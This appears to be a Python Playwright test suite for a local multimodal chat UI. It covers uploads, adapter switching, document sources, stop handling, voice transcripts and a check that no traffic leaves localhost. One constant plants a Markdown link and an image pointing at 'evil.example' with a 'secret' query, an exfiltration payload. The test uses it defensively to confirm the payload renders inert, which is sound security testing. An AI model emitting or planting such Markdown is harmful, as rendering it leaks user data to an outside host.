"""End to end in a real browser: `mmagent ui` on a localhost port with the embedded default model and a
random LoRA adapter, driven by headless Chromium through Playwright (Debian's chromium; no download).

Uploads the shipped cat photo, asks about it while the answer streams (the "Generating…" line with the
elapsed time and a Stop button), switches the adapter, adds a document with planted Markdown and asks
about it (the source excerpt shows the Markdown literally), stops an answer mid-way, and checks that
the base model loaded exactly once and that no request left 127.0.0.1. Screenshots go to tmp_path, and
also to $MMAGENT_UI_SCREENSHOTS when set (that is how docs/ui-chat.png is made). Timings are printed (-s).
"""

from __future__ import annotations

import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest
from conftest import require_binary

try:
    from playwright.sync_api import TimeoutError as PlaywrightTimeout
except ImportError:  # the tests skip without playwright
    PlaywrightTimeout = TimeoutError

pytestmark = pytest.mark.embedded_model
ANSWER_TIMEOUT = 150  # s per answer on 2 busy CPU cores


@pytest.fixture(scope="module")
def random_adapter(small_model_dir, tmp_path_factory) -> Path:
    """A random-weights LoRA on the default model's language tower (changes answers, proves switching)."""
    from helpers.tiny import build_lora_adapter

    from mmagent.model.default_vlm import vision  # noqa: F401  registers the embedded vision tower

    return build_lora_adapter(small_model_dir, tmp_path_factory.mktemp("adapter") / "random", seed=3)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_http(url: str, timeout: float, proc: subprocess.Popen, log: Path) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise AssertionError(f"`mmagent ui` exited with {proc.returncode}:\n{log.read_text()}")
        try:
            with urllib.request.urlopen(url, timeout=2) as response:
                if response.status == 200:
                    return
        except OSError:
            time.sleep(0.3)
    raise AssertionError(f"{url} did not answer within {timeout} s")


@pytest.fixture
def server(tmp_path, random_adapter, cache_dir):
    """`mmagent ui` in its own process group; yields (url, log path, start time)."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("MMAGENT_")}
    env.update(MMAGENT_PATHS_DATA=str(tmp_path / "data"), MMAGENT_MEMORY_PATH=str(tmp_path / "memory"),
               MMAGENT_PATHS_CACHE=str(cache_dir), MMAGENT_MODEL_MAX_NEW_TOKENS="16", HF_HUB_OFFLINE="1",
               MMAGENT_MODEL_ID="embedded:smollm2-135m")  # the smallest embedded model: the UI, not the model, is tested
    log = tmp_path / "server.log"
    started = time.perf_counter()
    with log.open("w") as out:
        proc = subprocess.Popen([str(Path(sys.executable).with_name("mmagent")), "ui", "--port", str(port),
                                 "--adapter-path", f"random={random_adapter}"],
                                cwd=tmp_path, env=env, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        wait_http(f"http://127.0.0.1:{port}/_stcore/health", 60, proc, log)
        yield f"http://127.0.0.1:{port}/", log, started
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)


def conversation(tmp_path: Path) -> dict:
    files = list((tmp_path / "data" / "ui" / "conversations").glob("*.json"))
    return json.loads(files[0].read_text()) if files else {"messages": []}


def wait_answers(tmp_path: Path, count: int) -> dict:
    """Wait until the saved conversation holds `count` assistant answers (saved once streaming ended)."""
    deadline = time.monotonic() + ANSWER_TIMEOUT
    while time.monotonic() < deadline:
        conv = conversation(tmp_path)
        if sum(m["role"] == "assistant" for m in conv["messages"]) >= count:
            return conv
        time.sleep(0.5)
    raise AssertionError(f"no answer #{count} after {ANSWER_TIMEOUT} s: {conversation(tmp_path)}")


def idle(page) -> None:
    """Wait until the script is not running (a rerun redraws the chat input and drops an attachment)."""
    page.wait_for_timeout(1000)  # the status widget shows up a moment after a rerun starts
    page.locator('[data-testid="stStatusWidget"]').wait_for(state="detached", timeout=ANSWER_TIMEOUT * 1000)
    page.wait_for_function("() => !document.querySelector('[data-stale=\"true\"]')",
                           timeout=ANSWER_TIMEOUT * 1000)  # and the last run's leftovers are gone


def ask(page, text: str, attach: Path | None = None) -> None:
    chat = page.locator('[data-testid="stChatInput"]')
    idle(page)
    for _ in range(3 if attach is not None else 0):  # a rerun that starts meanwhile drops the attachment
        chat.locator('input[type="file"]').set_input_files(str(attach))
        try:
            chat.get_by_text(attach.name).first.wait_for(timeout=15_000)  # the attachment chip
            break
        except PlaywrightTimeout:
            idle(page)
    else:
        if attach is not None:
            raise AssertionError(f"{attach.name} was not attached")
    send(page, text)


def send(page, text: str) -> None:
    """Type `text` and submit; Enter is ignored while an attachment still uploads, so retry until taken."""
    box = page.locator('[data-testid="stChatInput"] textarea')
    box.fill(text)
    for _ in range(40):
        box.press("Enter")
        page.wait_for_timeout(500)
        if box.input_value() == "":
            return
    raise AssertionError(f"the chat input did not take {text!r}")


def local_only(context, base: str) -> list[str]:
    """Record (and refuse) every request of `context` that does not go to the app at `base`; the test
    fails on any. Favicons bypass Playwright's request events, so :func:`external_links` checks those."""
    outside: list[str] = []

    def note(url: str) -> None:
        if not url.startswith((base, base.replace("http", "ws", 1), "data:", "blob:")):
            outside.append(url)

    context.on("request", lambda request: note(request.url))
    context.on("page", lambda page: page.on("websocket", lambda ws: note(ws.url)))
    context.route(re.compile(r"^(?!" + re.escape(base) + r"|data:|blob:)"),
                  lambda route: (note(route.request.url), route.abort()))
    return outside


def external_links(page, base: str) -> list[str]:
    """Addresses in the page (icons, images, scripts, style sheets, links) that point away from the app."""
    urls = page.eval_on_selector_all("link[href], img[src], script[src], iframe[src], a[href]",
                                     "els => els.map(e => e.href || e.src)")
    return [u for u in urls if not u.startswith((base, "data:", "blob:", "about:", "javascript:"))]


def gone(locator, timeout: float = 20.0) -> None:
    """Wait until `locator` matches nothing: the answer is saved before the page's next rerun removes the
    Stop button, so right after the save it may still be on screen for a moment (seen on a busy machine)."""
    deadline = time.monotonic() + timeout
    while locator.count() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert locator.count() == 0, f"still on the page after {timeout:.0f} s"


def clipped(page, selector: str) -> list[str]:
    """Texts under `selector` that are cut off with an ellipsis because they do not fit."""
    return page.eval_on_selector_all(selector, """els => els.filter(e => getComputedStyle(e).textOverflow === 'ellipsis'
        && e.scrollWidth > e.clientWidth + 1).map(e => e.textContent)""")


def shot(page, tmp_path: Path, name: str, *, wait: bool = True) -> Path:
    if wait:
        idle(page)
    path = tmp_path / name
    page.screenshot(path=str(path), full_page=True)
    if os.environ.get("MMAGENT_UI_SCREENSHOTS"):
        target = Path(os.environ["MMAGENT_UI_SCREENSHOTS"])
        target.mkdir(parents=True, exist_ok=True)
        shutil.copy(path, target / name)
    return path


PLANTED = "[click me](http://evil.example/x) ![x](http://evil.example/?q=secret)"


def test_chat_in_a_real_browser(server, tmp_path, cat_photo):
    chromium = require_binary("chromium")
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (test extra)")
    url, log, started = server
    notes = tmp_path / "cafeteria-notes.md"  # a document with Markdown planted in it, as an attacker would
    notes.write_text(f"# Cafeteria hours\nThe staff cafeteria opens at 7:30 in the morning and closes at 15:00. {PLANTED}\n")
    timings: dict[str, float] = {}
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        context = browser.new_context(viewport={"width": 1280, "height": 1000})
        outside = local_only(context, url)
        page = context.new_page()
        page.goto(url)
        page.locator('[data-testid="stChatInput"]').wait_for(timeout=60_000)
        timings["cold start to first render"] = time.perf_counter() - started
        loaded = page.get_by_text(re.compile(r"Model loads: 1 \(took [\d.]+ s\)"))
        loaded.wait_for(timeout=120_000)
        timings["model load"] = float(re.search(r"took ([\d.]+) s", loaded.inner_text()).group(1))

        t = time.perf_counter()
        ask(page, "What animal is in this photo?", attach=cat_photo)
        stop = page.locator('[data-testid="stChatMessage"]').get_by_role("button", name=re.compile(r"Stop$"))
        stop.wait_for(timeout=ANSWER_TIMEOUT * 1000)  # generating: elapsed time and Stop while it streams
        page.get_by_text("Generating…").wait_for(timeout=20_000)
        page.get_by_text(re.compile(r"^\(\d+\.\d seconds\)$")).wait_for(timeout=20_000)  # the elapsed time
        shot(page, tmp_path, "ui-generating.png", wait=False)
        conv = wait_answers(tmp_path, 1)
        timings["first answer"] = time.perf_counter() - t
        first = conv["messages"][-1]
        assert first["kind"] == "text" and first["text"] and first["adapter"] is None and not first["stopped"]
        assert conv["messages"][0]["images"], "the photo was not attached to the question"
        page.get_by_text(first["text"][:20]).first.wait_for(timeout=20_000)  # streamed into the page
        assert page.locator('[data-testid="stChatMessage"] img').count() >= 1  # the photo, inline
        gone(stop)
        page.locator('[data-testid="stSidebar"]').get_by_text(re.compile(r"^What animal is in this photo\? · \d\d:\d\d$")).wait_for(timeout=30_000)
        assert not clipped(page, '[data-testid="stSidebar"] *')  # sidebar options and titles are readable
        shot(page, tmp_path, "ui-chat.png")  # docs/ui-chat.png: the base model's answer about the photo

        page.locator('[data-testid="stSelectbox"]').filter(has_text="Adapter").click()
        page.get_by_role("option", name="random").click()
        switch = page.get_by_text(re.compile(r"last adapter switch [\d.]+ ms"))
        switch.wait_for(timeout=30_000)  # the rerun that readies the adapter has run
        timings["adapter switch"] = float(re.search(r"switch ([\d.]+) ms", switch.inner_text()).group(1)) / 1000
        t = time.perf_counter()
        ask(page, "When does the cafeteria open?", attach=notes)  # added to memory, then answered from it
        conv = wait_answers(tmp_path, 3)
        timings["document added and answered after adapter switch"] = time.perf_counter() - t
        note, second = conv["messages"][-2], conv["messages"][-1]
        assert note["kind"] == "note" and second["kind"] == "text" and second["adapter"] == "random", (note, second)
        assert any(s["source"]["uri"].endswith("cafeteria-notes.md") and PLANTED in s["source"]["excerpt"]
                   for s in second["sources"]), second["sources"]
        assert page.get_by_text(re.compile(r"Model loads: 1 ")).count() == 1
        excerpt = page.locator('[data-testid="stExpander"]').filter(has_text="Sources").last
        excerpt.get_by_text("# Cafeteria hours").first.wait_for(timeout=20_000)  # not a heading
        shown = excerpt.inner_text().replace("\u2060", "")  # the word joiner that keeps addresses from linking
        assert PLANTED in shown, shown  # the planted Markdown, character for character
        live = page.locator('[data-testid="stChatMessage"]').locator(
            "a[href*='evil'], img[src*='evil'], h1, h2, h3, h4, h5, h6")
        assert live.count() == 0, live.evaluate_all("els => els.map(e => e.outerHTML)")  # no link, image, heading
        shot(page, tmp_path, "ui-sources.png")

        ask(page, "Tell me a long story about the cafeteria.")
        stop.wait_for(timeout=ANSWER_TIMEOUT * 1000)
        t = time.perf_counter()
        stop.click()
        conv = wait_answers(tmp_path, 4)
        timings["stop click to saved"] = time.perf_counter() - t
        stopped = conv["messages"][-1]
        assert stopped["kind"] == "text" and stopped["stopped"], stopped
        page.get_by_text(re.compile(r"^Stopped after [\d.]+ s(\.|, before any text\.)$")).wait_for(timeout=30_000)
        gone(stop)
        ended = re.search(r"generation ended ([\d.]+) s after Stop", log.read_text())
        assert ended, log.read_text()
        timings["generation ended after Stop"] = float(ended.group(1))
        shot(page, tmp_path, "ui-stopped.png")
        sidebar = page.locator('[data-testid="stSidebar"]')
        with page.expect_download(timeout=30_000) as download:  # made on the click, not on every page run
            sidebar.get_by_role("button", name=".md").click()
        exported = Path(download.value.path()).read_text()
        assert "What animal is in this photo?" in exported and first["text"][:20] in exported, exported[:500]
        with page.expect_download(timeout=30_000) as download:
            sidebar.get_by_role("button", name=".json").click()
        saved = conversation(tmp_path)["messages"]
        assert json.loads(Path(download.value.path()).read_text())["messages"] == saved and len(saved) >= 7
        away = external_links(page, url)
        browser.close()
    assert not outside and not away, (outside, away)  # nothing left 127.0.0.1, not even the page icon
    server_log = log.read_text()
    assert len(re.findall(r"model loaded in", server_log)) == 1, server_log  # the base never reloaded
    assert "adapter switch to random" in server_log
    assert timings["adapter switch"] < timings["model load"] / 10
    assert timings["generation ended after Stop"] < 5  # within a token or two, not the rest of the answer
    timings["e2e total"] = time.perf_counter() - started
    print("\nUI timings (s): " + ", ".join(f"{k} {v:.4g}" for k, v in timings.items()))


@pytest.mark.slow
def test_documents_sources_voice_errors_and_handoff_in_a_real_browser(server, tmp_path, jfk_flac):
    """The rest of a working day: documents into memory, an answer with sources, a voice message edited
    before sending, a corrupt upload, the memory page, and a customer-service hand-off banner."""
    chromium = require_binary("chromium")
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (test extra)")
    url, log, _ = server
    notes = tmp_path / "cafeteria-notes.md"
    notes.write_text("# Cafeteria\nThe staff cafeteria opens at 7:30 in the morning and closes at 15:00.\n")
    broken = tmp_path / "broken.png"
    broken.write_bytes(b"\x89PNG\r\n\x1a\nthis is not a picture")
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": 1280, "height": 1100})
        page.goto(url)
        page.get_by_text(re.compile(r"Model loads: 1 ")).wait_for(timeout=120_000)

        ask(page, "When does the cafeteria open?", attach=notes)  # ingested, then answered from memory
        conv = wait_answers(tmp_path, 2)
        note, answer = conv["messages"][-2], conv["messages"][-1]
        assert note["kind"] == "note" and "Added 1 of 1 file(s) to 'default'" in note["text"]
        assert answer["kind"] == "text" and answer["sources"], answer
        source = answer["sources"][0]["source"]
        assert source["uri"].endswith("cafeteria-notes.md") and source["score"] > 0.35
        page.get_by_text(re.compile(r"cafeteria-notes\.md.*score 0\.\d\d")).first.wait_for(timeout=20_000)
        shot(page, tmp_path, "ui-sources.png")

        ask(page, "What is this?", attach=broken)
        conv = wait_answers(tmp_path, 3)
        assert any(m["kind"] == "error" and "broken.png" in m["text"] for m in conv["messages"])
        page.get_by_text(re.compile(r"'broken.png' cannot be used as an image")).first.wait_for(timeout=20_000)

        chat = page.locator('[data-testid="stChatInput"]')
        idle(page)
        chat.locator('input[type="file"]').set_input_files(str(jfk_flac))
        chat.get_by_text(jfk_flac.name).first.wait_for(timeout=20_000)
        send(page, "Who said this?")
        draft = page.get_by_label("Transcript")
        draft.wait_for(timeout=60_000)
        assert "ask not what your country can do for you" in draft.input_value().lower()
        draft.fill(draft.input_value() + " (edited)")
        page.get_by_role("button", name="Send transcript", exact=True).click()
        conv = wait_answers(tmp_path, 4)
        asked = [m for m in conv["messages"] if m["role"] == "user"][-1]
        assert asked["text"].startswith("Who said this?") and asked["text"].endswith("(edited)")

        page.locator('[data-testid="stSelectbox"]').filter(has_text="Flow").click()
        page.get_by_role("option", name="Customer service").click()
        ask(page, "I want to talk to a human agent please")
        conv = wait_answers(tmp_path, 5)
        assert conv["messages"][-1]["handoff"] and conv["messages"][-1]["tickets"]
        page.get_by_text("This conversation was handed off to a human agent").wait_for(timeout=20_000)
        shot(page, tmp_path, "ui-handoff.png")

        page.goto(url + "memory")
        page.get_by_text("Documents in 'default'").wait_for(timeout=30_000)
        page.locator('[data-testid="stDataFrame"]').wait_for(timeout=30_000)  # the document table (a canvas grid)
        shot(page, tmp_path, "ui-memory.png")
        browser.close()
    assert len(re.findall(r"model loaded in", log.read_text())) == 1


@pytest.mark.slow
def test_microphone_recording_becomes_an_editable_transcript(server, tmp_path, jfk_flac):
    """st.audio_input in Chromium with a fake microphone that plays jfk.flac (converted to WAV by sox)."""
    chromium = require_binary("chromium")
    sox = require_binary("sox")
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (test extra)")
    url, _, _ = server
    wav = tmp_path / "jfk.wav"
    subprocess.run([sox, str(jfk_flac), "-b", "16", str(wav)], check=True)
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, args=[
            "--no-sandbox", "--use-fake-ui-for-media-stream", "--use-fake-device-for-media-stream",
            f"--use-file-for-fake-audio-capture={wav}"])
        page = browser.new_context(permissions=["microphone"], viewport={"width": 1280, "height": 1000}).new_page()
        page.goto(url)
        page.get_by_text(re.compile(r"Model loads: 1 ")).wait_for(timeout=120_000)
        page.get_by_role("button", name="Record a question").click()
        page.get_by_role("button", name="Record", exact=True).click()
        page.wait_for_timeout(9_000)  # the fake microphone plays the speech
        page.get_by_role("button", name="Stop recording").click()
        draft = page.get_by_label("Transcript")
        draft.wait_for(timeout=60_000)
        assert "ask not what your country can do for you" in draft.input_value().lower()
        draft.fill("What did the speaker ask of Americans?")
        page.get_by_role("button", name="Send transcript", exact=True).click()
        conv = wait_answers(tmp_path, 1)
        browser.close()
    user, answer = conv["messages"][0], conv["messages"][1]
    assert user["text"] == "What did the speaker ask of Americans?" and user["files"] == []
    assert answer["kind"] == "text" and answer["text"]
